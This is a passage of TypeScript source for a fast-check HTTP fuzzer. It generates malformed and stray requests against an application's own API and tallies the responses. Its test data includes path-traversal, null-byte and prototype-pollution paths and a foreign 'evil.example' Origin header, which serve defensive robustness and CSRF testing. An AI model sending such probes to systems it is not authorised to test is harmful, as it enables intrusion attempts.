      .tuple(...operation.pathParams.map((param) => pathValue(param, operation, ctx, focus === 'path').map((value) => [param.name, value] as const)))
      .map((pairs) => {
        let out = operation.path;
        for (const [name, value] of pairs) out = out.replace(`{${name}}`, RAW_SAFE.test(value) ? value : encodeSegment(value));
        return out;
      });
    const query = (focus === 'query' ? brokenQuery(operation, ctx) : validQuery(operation, ctx)).map((parts) =>
      parts.length > 0 ? `?${parts.join('&')}` : '',
    );
    const body: fc.Arbitrary<BodySpec | null> =
      focus === 'body' && operation.body
        ? brokenBodies(operation.body, ctx)
        : focus === 'headers' && !operation.body
          ? fc.constantFrom('{}', '{"x":1}', '[]', 'x').map((text) => ({ variant: 'unexpected-body', text }))
          : validBody;
    const origin: fc.Arbitrary<OriginMode> =
      focus === 'headers' ? fc.constantFrom<OriginMode>('same', 'none', 'foreign', 'null') : fc.constant(unsafe ? 'same' : 'none');
    const contentType = focus === 'headers' ? fc.constantFrom<string | null>('application/json', ...CONTENT_TYPES, null) : fc.constant('application/json');
    const method = focus === 'method' ? fc.constantFrom('GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS') : fc.constant(operation.method);
    return fc.record({ actor: fc.constantFrom(...ACTORS), path, query, body, origin, contentType, method }).map(
      (r): FuzzRequest => ({
        operation: operation.name,
        actor: r.actor,
        method: r.method,
        path: r.path + r.query,
        origin: r.origin,
        contentType: r.body ? r.contentType : null,
        body: r.method === 'HEAD' || (r.method === 'GET' && r.body?.variant !== 'unexpected-body') ? null : (r.body?.text ?? null),
        variant: `${focus}:${focus === 'method' ? r.method : focus === 'headers' ? `${r.origin}/${r.contentType}` : (r.body?.variant ?? '-')}`,
      }),
    );
  });
}

/** Requests to paths no operation has (typos, traversal, prefixes of real routes). */
function strayRequest(ctx: Context): fc.Arbitrary<FuzzRequest> {
  const id = ctx.targets.definitionIds[0] ?? '00000000-0000-0000-0000-000000000000';
  return fc
    .record({
      actor: fc.constantFrom(...ACTORS),
      method: fc.constantFrom('GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD'),
      path: fc.constantFrom(
        '/api',
        '/api/',
        '/api/groups/',
        '/api//groups',
        `/api/definitions/${id}/`,
        `/api/definitions/${id}/clauses`,
        `/api/definitions/${id}/unknown`,
        '/api/../api/health',
        '/api/%2e%2e/health',
        '/api/health/../me',
        '/api/HEALTH',
        '/api/health?',
        '/api/openapi.json',
        '/api/docs',
        `/api/collab/${id}`,
        '/api/collab/not-a-uuid',
        '/api/me/',
        '/api/auth',
        '/api/admin',
        '/api/groups/__proto__',
        '/api/groups/constructor/members',
        `/${big('x', 3000)}`,
        '/api/%',
        '/api/%00',
        '/api/groups/%ED%A0%80',
      ),
      origin: fc.constantFrom<OriginMode>('same', 'none'),
    })
    .map((r) => ({ operation: 'STRAY', ...r, contentType: null, body: null, variant: 'stray' }));
}

export function requestArbitrary(document: OpenApiDocument, world: World): fc.Arbitrary<FuzzRequest> {
  const ctx: Context = { targets: world.targets };
  const operations = operationsOf(document);
  return fc.oneof(
    { weight: 60, arbitrary: fc.oneof(...operations.map((operation) => operationRequest(operation, ctx))) },
    { weight: 1, arbitrary: strayRequest(ctx) },
  );
}

/**
 * `count` requests, generated in chunks from `seed` (chunk i from seed + i), so the campaign and the
 * test reproduce their requests from the seed, and the world can be repaired between chunks.
 */
export function* requestChunks(document: OpenApiDocument, world: World, seed: number, count: number, chunkSize: number): Generator<FuzzRequest[]> {
  for (let done = 0, chunk = 0; done < count; chunk++) {
    const size = Math.min(chunkSize, count - done);
    // Regenerated per chunk: the world's id pools grow (fresh ballots and amendments after each repair).
    yield fc.sample(requestArbitrary(document, world), { seed: (seed + chunk * 7919) | 0, numRuns: size });
    done += size;
  }
}

// ---------------------------------------------------------------------------------------------------
// Putting a request on the wire

export interface WireRequest {
  method: string;
  path: string;
  headers: Record<string, string>;
  body: string | Buffer | undefined;
}

export const FOREIGN_ORIGIN = 'https://evil.example';

export function wireRequest(request: FuzzRequest, world: World, origin: string, spareCookie: () => string | null): WireRequest {
  const headers: Record<string, string> = {};
  // A fuzzed sign-out as one of the accounts ends a throwaway session of it, not the one the run uses.
  const signOut = request.path.startsWith('/api/auth/logout') && request.method === 'POST';
  const cookie = signOut && request.actor !== 'anonymous' && request.actor !== 'forged' ? spareCookie() : world.cookieOf(request.actor);
  if (cookie) headers.cookie = cookie;
  if (request.origin === 'same') headers.origin = origin;
  else if (request.origin === 'foreign') headers.origin = FOREIGN_ORIGIN;
  else if (request.origin === 'null') headers.origin = 'null';
  if (request.body !== null && request.contentType) headers['content-type'] = request.contentType;
  return { method: request.method, path: request.path, headers, body: request.body ?? undefined };
}

export function describeRequest(request: FuzzRequest, max = 300): string {
  const body = request.body === null ? '' : typeof request.body === 'string' ? request.body : `<bytes ${request.body.toString('hex')}>`;
  const excerpt = body.length > max ? `${JSON.stringify(body.slice(0, max))}… (${body.length} chars)` : JSON.stringify(body);
  const path = request.path.length > max ? `${request.path.slice(0, max)}… (${request.path.length} chars)` : request.path;
  return `${request.method} ${path} as ${request.actor} [${request.variant}] origin=${request.origin} content-type=${request.contentType ?? '-'} body=${excerpt}`;
}

// ---------------------------------------------------------------------------------------------------
// Tally

export type Outcome = { status: number; body: string } | { error: string; detail?: string };

export interface ServerErrorSample {
  status: number;
  request: string;
  response: string;
}

export class HttpTally {
  total = 0;
  readonly byStatus = new Map<string, number>();
  readonly byActor = new Map<string, Map<string, number>>();
  readonly byOperation = new Map<string, Map<string, number>>();
  readonly serverErrors: ServerErrorSample[] = [];
  serverErrorCount = 0;
  readonly networkErrors = new Map<string, number>();
  readonly networkSamples: string[] = [];

  record(request: FuzzRequest, outcome: Outcome): void {
    this.total++;
    const key = 'status' in outcome ? String(outcome.status) : `no response (${outcome.error})`;
    const bump = (map: Map<string, number>, k: string) => map.set(k, (map.get(k) ?? 0) + 1);
    bump(this.byStatus, key);
    bump(this.byActor.get(request.actor) ?? this.byActor.set(request.actor, new Map()).get(request.actor)!, key);
    bump(this.byOperation.get(request.operation) ?? this.byOperation.set(request.operation, new Map()).get(request.operation)!, key);
    if ('status' in outcome) {
      if (outcome.status >= 500) {
        this.serverErrorCount++;
        if (this.serverErrors.length < 50)
          this.serverErrors.push({ status: outcome.status, request: describeRequest(request), response: outcome.body.slice(0, 300) });
      }
    } else {
      bump(this.networkErrors, outcome.error);
      if (this.networkSamples.length < 20)
        this.networkSamples.push(`${outcome.error}: ${describeRequest(request, 120)}${outcome.detail ? `\n      ${outcome.detail}` : ''}`);
    }
  }

  /** Lines for a report: totals per status, per actor, per operation. */
  summary(): string[] {
    const sorted = (map: Map<string, number>) => [...map.entries()].sort((a, b) => (a[0] < b[0] ? -1 : 1));
    const line = (map: Map<string, number>) =>
      sorted(map)
        .map(([status, n]) => `${status}×${n}`)
        .join(' ');
    const operations = [...this.byOperation.entries()].filter(([name]) => name !== 'STRAY');
    const reached = operations.filter(([, map]) => [...map.keys()].some((status) => status.startsWith('2'))).length;
    const fewest = Math.min(...operations.map(([, map]) => [...map.values()].reduce((a, b) => a + b, 0)));
    const out = [
      `requests: ${this.total}`,
      `per status: ${line(this.byStatus)}`,
      `operations: ${operations.length} hit (at least ${Number.isFinite(fewest) ? fewest : 0} requests each), ${reached} of them answered 2xx at least once`,
      'per actor:',
    ];
    for (const actor of ACTORS) if (this.byActor.has(actor)) out.push(`  ${actor.padEnd(10)} ${line(this.byActor.get(actor)!)}`);
    out.push('per operation:');
    for (const [operation, map] of sorted(new Map([...this.byOperation].map(([k, v]) => [k, [...v.values()].reduce((a, b) => a + b, 0)])))) {
      out.push(`  ${operation.padEnd(58)} ${String(map).padStart(6)}  ${line(this.byOperation.get(operation)!)}`);
    }
    return out;
  }
}

/** Sends `requests` with at most `concurrency` in flight; records each outcome. */
export async function sendAll(requests: FuzzRequest[], concurrency: number, send: (request: FuzzRequest) => Promise<Outcome>, tally: HttpTally): Promise<void> {
  let next = 0;
  const worker = async () => {
    while (next < requests.length) {
      const request = requests[next++]!;
      tally.record(request, await send(request));
    }
  };
  await Promise.all(Array.from({ length: Math.min(concurrency, requests.length) }, worker));
}
